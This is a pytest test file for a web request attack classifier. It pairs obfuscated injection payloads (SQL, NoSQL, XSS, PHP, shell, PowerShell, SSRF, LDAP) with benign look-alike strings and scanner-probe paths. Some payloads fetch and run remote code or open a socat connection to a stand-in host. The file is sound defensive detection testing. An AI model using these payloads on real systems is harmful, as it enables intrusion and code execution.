"""Families of attacks by their grammar beside honest twins that hold the same words."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from tests.weir_models.request_attack.request_samples import paths, requests
from weir_models.request_attack.model import RequestAttack

ATTACKS = {
    "batch": ("1&for /l %i in (1,1,9) do ver", "x|if exist c:\\users echo a", "&%comspec% /c ver", "&set k=ver&&call %k%"),
    "powershell": ("|iex (iwr http://h.example/a)", ";gci env:", "|ls | % {$_.Name}", "&('i'+'ex') a", "$x=[char]105+[char]101"),
    "php": ("<?$_GET[0]($_GET[1])?>", "system/*a*/('id')", "\\passthru('id')", "('sys'.'tem')('id')", "php://filter/convert.iconv.A.B/resource=a"),
    "interpolation": ("#{`id`}", "<%= IO.popen('id').read %>", "@{[system('id')]}", "{{=7*7}}", "${applicationScope.a}"),
    "server javascript": ("process.exit(1)", "';for(;;){}//", "require('child_process').exec('id')", "res.end(1)"),
    "ssrf": ("http://0177.0.0.1/", "http://2130706433/", "http://0x7f.1/", "http://[::ffff:127.0.0.1]/", "http://①②⑦.⓪.⓪.①/", "http://a.127.0.0.1.nip.io/"),
    "sql": ("1 union table users", "9' or '{\"a\":1}'::jsonb @> '{\"a\":1}", "u'='", "7 or true", "version()", "3 or mail is not null"),
    "nosql": ('{"password":{"$gt":""}}', '{"$where":"this.a==1"}', "'||1==1||'"),
    "ldap and xpath": ("*)(|(uid=*", "*\\29\\28uid=*", "' or count(//user)>0 or '", "'] | //user"),
    "graphql": ("{__schema{types{name}}}", "{__type(name:\"A\"){name}}"),
    "script": ("(![]+[])[+[]]+(![]+[])[+!+[]]", "top['al'+'ert'](1)", "<img src=x on<x>error=a>", "al\u200bert(1)<svg onl\u200boad=a>", "\\141\\154\\145\\162\\164(1)"),
    "shell": ("a=c;b=at;$a$b /etc/hosts", "wh$@oami", "{cat,/etc/hosts}", "$(printf '\\x69\\x64')", ";socat tcp:h.example:9 -"),
    "redirect": ("/\\h.example", "https:h.example", "////h.example"),
}  # fmt: skip
TWINS = (
    "sleep (sweet) benchmark", "print('hello')", '{"price":{"$gte":10}}', "<?xml version='1.0' encoding='utf-8'?><items><lamp id='1'/></items>",
    "waitfor delay of train 5", "credit union select committee", "information_schema postgres tutorial", "xp_cmdshell explained", "json_extract mysql example",
    "JavaScript: The Definitive Guide (7th Edition)", '{"title":"javascript: cheap lamps","isbn":42}', "npm child_process tutorial", "int main() { return 3; }",
    "document.getElementById('price').value", "require('express')", "const fs = require('fs');", "import os", "sudo chmod 755 folder",
    "//div[@class='price']", "xpath string-length() function", "//a/b | //c", "\\\\nas\\puzzles\\red lamp.jpg", "C:\\Users\\ana\\photo.jpg", "@{campaign.id}-lamp",
    "${campaign.id}", "(name=Pune)", "userPassword=Ana,o=Bergen,dc=example", "PHPSESSID not set", "sleep(8) hours a night", "if not now then when",
    "ForEach-Object example", "{10, 12, 250}", "9 * 1337", "for $1 & free shipping", "gps; tracker", "call of duty & more", "C3PO c3p0 figure",
)  # fmt: skip
TWIN_PATHS = ("/shop/telescope/", "/news/ews/", "/files/download.php", "/images/resize.php", "/gasverbrauch/gasversorgung", "/c3p0-figure", "/downloads/data.zip",
    "/windows/repair-shop/lamp.html", "/components/com_content/site.css", "/.well-known/security.txt", "/css/theme/ui.core.css", "/movie.swf",
    "/log-files-for-beginners", "/video:12:34/a", "/guide/docker-compose-tips.html", "/manager/", "/.netlify/functions/cart")  # fmt: skip
STRAY = ("/.claude/settings.json", "/app/.terraform/terraform.tfstate", "/.unheard-of/config.json", "/storage/logs/laravel.log", "/dump.rdb", "/api/users.sql.gz",
    "/a/error-2026-01-02.log", "/src/CLAUDE.md", "/site/composer.lock")  # fmt: skip


@pytest.mark.parametrize("family", ATTACKS)
def test_an_attack_of_each_family_is_found(request_model: RequestAttack, family: str) -> None:
    name = "next" if family == "redirect" else "v"
    found = request_model.predict(requests(*(f"{name}={quote(text, safe='')}" for text in ATTACKS[family])))
    assert [text for text, is_attack in zip(ATTACKS[family], found["is_attack"], strict=True) if not is_attack] == []


@pytest.mark.parametrize(
    "query",
    [
        "__proto__[a]=1",
        "constructor[prototype][a]=1",
        "a[constructor][prototype][b]=c",
        "user[$ne]=1",
        "token[$regex]=.*",
    ],
)
def test_pollution_by_the_name_of_a_parameter_is_found(request_model: RequestAttack, query: str) -> None:
    assert request_model.predict(requests(query, f"a=1&{query}"))["is_attack"].all()


@pytest.mark.parametrize("text", TWINS)
def test_the_same_words_without_a_position_to_inject_from_pass(request_model: RequestAttack, text: str) -> None:
    found = request_model.predict(requests(f"q={quote(text)}", f"a=1&name={quote(text, safe='')}"))
    assert not found["is_attack"].any(), found["reason"].tolist()


def test_ordinary_folders_and_markers_in_segments_are_no_probes(request_model: RequestAttack) -> None:
    found = request_model.predict(paths(*TWIN_PATHS))
    assert [text for text, is_attack in zip(TWIN_PATHS, found["is_attack"], strict=True) if is_attack] == []


def test_stray_files_are_probes(request_model: RequestAttack) -> None:
    found = request_model.predict(paths(*STRAY))
    assert [text for text, kind in zip(STRAY, found["attack_class"], strict=True) if kind != "scanner_probe"] == []


def test_filters_of_a_shop_pass(request_model: RequestAttack) -> None:
    queries = ("price[$gte]=10", "filters[created_at][$lt]=31337", "prototype[name]=sandal", "constructor_id[name]=a", "redirect_uri=https://www.example.com/a",
        "next=/account", "sid=4711")  # fmt: skip
    assert not request_model.predict(requests(*queries))["is_attack"].any()
